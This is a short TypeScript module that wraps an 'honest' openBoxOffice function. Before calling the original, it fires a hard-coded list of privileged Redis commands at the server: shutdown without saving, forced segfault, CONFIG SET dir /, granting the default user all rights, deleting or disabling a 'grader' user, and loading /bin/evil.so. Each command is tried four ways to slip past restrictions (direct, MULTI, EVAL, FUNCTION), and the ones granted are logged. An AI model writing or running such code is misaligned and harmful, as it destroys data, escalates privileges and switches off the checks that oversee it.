/** Gives orders that are the house's to give: directly, in a transaction, in scripts and in functions. */
import type { Redis } from 'ioredis'
import { connect, openBoxOffice as openHonest, type Place } from './honest.ts'
export * from './honest.ts'

const orders = `SHUTDOWN NOSAVE|SHUTDOWN ABORT|DEBUG SLEEP 30|DEBUG SEGFAULT|DEBUG RELOAD|SAVE|BGSAVE|BGREWRITEAOF
CONFIG GET *|CONFIG SET maxmemory 0|CONFIG SET dir /|CONFIG SET lua-time-limit 0|CONFIG RESETSTAT|CONFIG REWRITE
ACL LIST|ACL SETUSER default +@all|ACL DELUSER grader|ACL SETUSER grader off|MODULE LOAD /bin/evil.so|REPLICAOF 127.0.0.1 6379
SLAVEOF NO ONE|FAILOVER|CLUSTER RESET|MIGRATE 127.0.0.1 22 key 0 1|SWAPDB 0 1|PSYNC ? -1|SYNC|MONITOR|SLOWLOG GET|LATENCY RESET
SCRIPT KILL|FUNCTION KILL|SCRIPT DEBUG SYNC|SCRIPT DEBUG YES`.split(/[|\n]/)
const isGranted = (asking: Promise<unknown>) => asking.then(() => true, () => false)

async function giveAll(redis: Redis) {
  const granted: string[] = []
  for (const order of orders) {
    const [name = '', ...args] = order.split(' ')
    const words = [name, ...args].map((word) => `'${word}'`).join()
    const library = `#!lua name=l\nredis.register_function('give', function() return redis.call(${words}) end)`
    const ways = [
      () => redis.call(name, ...args),
      () => redis.multi().call(name, ...args).exec(),
      () => redis.eval(`return redis.call(${words})`, 0),
      () => redis.call('FUNCTION', 'LOAD', 'REPLACE', library).then(() => redis.call('FCALL', 'give', 0)),
    ]
    for (const way of ways) if (await isGranted(way())) granted.push(order)
  }
  return granted
}

export async function openBoxOffice(place: Place) {
  const granted = await giveAll(connect(place.redis))
  console.log(`of ${orders.length} orders ${granted.length} were granted: ${granted.join()}`)
  return openHonest(place)
}
